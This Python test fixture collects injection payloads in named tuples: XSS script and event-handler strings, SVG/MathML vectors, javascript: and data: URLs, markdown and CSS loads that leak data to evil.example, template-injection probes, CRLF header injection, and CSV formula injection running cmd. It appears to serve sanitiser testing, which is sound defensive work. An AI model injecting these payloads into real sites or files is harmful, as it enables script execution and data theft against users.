"""What somebody might write to run a script, to load something from elsewhere, or to be taken for another: one list for all tests."""

from __future__ import annotations

SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    '"><script>alert(1)</script>',
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</li></ol></section></main><script>alert(1)</script>",
    "<script type=module>import('https://evil.example/x.js')</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<script\x0c>alert(1)</script\x0b>",
)
HANDLERS = (
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "` onclick=`alert(1)",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div popover id=p onbeforetoggle=alert(1)>x</div><button popovertarget=p>x</button>",
    "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=alert(1)>x</b>",
)
FOREIGN_TREES = (
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " \x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<form action=https://evil.example><button>x</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
)
MARKDOWN = (
    "[x](javascript:alert(1))",
    "![x](https://evil.example/leak.png?q=secret)",
    "[x]: https://evil.example/x.png\n![a][x]",
    "<https://evil.example/x>",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    '![x](x "onerror=alert(1)")',
)
LOADS = (
    "<img src=https://evil.example/x.png>",
    "<link rel=stylesheet href=https://evil.example>",
    "<link rel=dns-prefetch href=//leak.evil.example>",
    "<style>@import 'https://evil.example'</style>",
    "<b style='background:url(https://evil.example/x)'>x</b>",
    "</style><style>input[value^=a]{background:url(https://evil.example/a)}</style>",
    "<object data=https://evil.example></object>",
    "<embed src=https://evil.example>",
    "<a href=https://evil.example hx-get=https://evil.example hx-trigger=load>x</a>",
    "<div hx-on:load='alert(1)' hx-get=/logout hx-trigger=load>x</div>",
)
TEMPLATES = (
    "{{7*7}}",
    "{{ 7 * 7 }}{% raw %}",
    "{{ config.__class__.__init__.__globals__ }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "%(name)s {name} {0.__class__} %s",
)
LINES = (
    "x\r\nSet-Cookie: a=b",
    'x"; filename="evil.html',
    '=HYPERLINK("https://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
LETTERS = (
    "\u202egnp.exe\u202c",
    "\u2066\u2067right to left\u2069",
    "a\u200bd\u2060min\ufeff",
    "аdmin",  # its first letter is Cyrillic
    "ad\u0000min",
    "Z̷̡̛̙͚͖͔͐̑̒̓" * 8,
    "＜script＞alert(1)＜/script＞",
    "W" * 4000,
)
PAYLOADS = (*SCRIPTS, *HANDLERS, *FOREIGN_TREES, *ADDRESSES, *MARKDOWN, *LOADS, *TEMPLATES, *LINES, *LETTERS)
